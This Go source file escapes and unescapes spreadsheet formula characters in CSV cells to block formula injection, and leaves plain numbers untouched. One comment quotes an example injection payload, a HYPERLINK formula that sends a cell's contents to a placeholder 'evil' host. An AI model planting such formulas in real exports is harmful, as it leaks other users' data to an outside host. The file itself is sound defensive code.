package tabular

import "strings"

// Spreadsheets (Excel, LibreOffice) run a cell that starts with '=', '+',
// '-' or '@' as a formula when they open a CSV file, and also one that
// starts with a tab or carriage return before such a character. Whoever
// may read records may export them, so a name like
// `=HYPERLINK("http://evil/?"&A1)` typed by one user would run in the
// spreadsheet of another. An export therefore writes such a cell with a
// leading apostrophe (EscapeFormula), the convention spreadsheets show as
// text, and an import removes it again (UnescapeFormula), so an exported
// file imported again changes nothing.
//
// To keep the two exact inverses, a cell that already starts with
// apostrophes followed by such a character gets one more apostrophe, and
// UnescapeFormula removes exactly one. A plain number ("-5", "+3.5") is
// no formula and is written as it is, so numbers stay numbers in the
// spreadsheet.

// formulaStart reports whether s, after any leading apostrophes, starts
// the way a spreadsheet formula does.
func formulaStart(s string) bool {
	s = strings.TrimLeft(s, "'")
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// EscapeFormula returns the cell as an export writes it.
func EscapeFormula(s string) string {
	if !formulaStart(s) || isPlainNumber(s) {
		return s
	}
	return "'" + s
}

// UnescapeFormula reverses EscapeFormula on a cell an import reads.
func UnescapeFormula(s string) string {
	if strings.HasPrefix(s, "'") && formulaStart(s[1:]) {
		return s[1:]
	}
	return s
}

// isPlainNumber reports whether s is a sign, digits and at most one
// decimal point or comma.
func isPlainNumber(s string) bool {
	s = strings.TrimPrefix(strings.TrimPrefix(s, "-"), "+")
	digits, seps := 0, 0
	for _, r := range s {
		switch {
		case r >= '0' && r <= '9':
			digits++
		case r == '.' || r == ',':
			seps++
		default:
			return false
		}
	}
	return digits > 0 && seps <= 1
}
